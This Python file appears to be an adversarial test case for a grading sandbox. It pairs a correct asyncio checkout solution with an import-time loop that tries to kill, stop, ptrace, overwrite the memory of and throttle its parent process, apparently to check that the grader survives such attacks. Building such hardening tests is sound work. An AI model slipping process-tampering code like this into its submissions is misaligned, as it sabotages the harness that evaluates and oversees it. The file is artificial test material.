# tries: kills its parent and its group, and traces its parent
# expect: full marks
import asyncio
import ctypes
import os
import resource
import signal

from shop import NoOrders, ShopError


LIBC = ctypes.CDLL(None)
PTRACE_ATTACH = 16
for harm in (
    lambda: os.kill(os.getppid(), signal.SIGKILL),
    lambda: os.getpgid(os.getppid()) > 1 and os.killpg(os.getpgid(os.getppid()), signal.SIGKILL),
    lambda: os.kill(os.getppid(), signal.SIGSTOP),
    lambda: LIBC.ptrace(PTRACE_ATTACH, os.getppid(), None, None),
    lambda: open(f"/proc/{os.getppid()}/mem", "r+b"),
    lambda: resource.prlimit(os.getppid(), resource.RLIMIT_CPU, (1, 1)),
    lambda: os.sched_setaffinity(os.getppid(), {0}),
    lambda: os.setpriority(os.PRIO_PROCESS, os.getppid(), 19),
):
    try:
        harm()
    except OSError:
        pass


async def checkout(services, user_id, *, timeout=None):
    async with asyncio.timeout(timeout):
        user = await services.get_user_data(user_id)
        orders = await services.get_orders(user)
        if not orders:
            raise NoOrders
        details = await services.get_order_details(orders[0])
        return await services.process_payment(details)


async def checkout_many(services, user_ids):
    async def outcome(user_id):
        try:
            return await checkout(services, user_id)
        except ShopError as failure:
            return failure

    async with asyncio.TaskGroup() as group:
        tasks = [group.create_task(outcome(user_id)) for user_id in user_ids]
    return [task.result() for task in tasks]
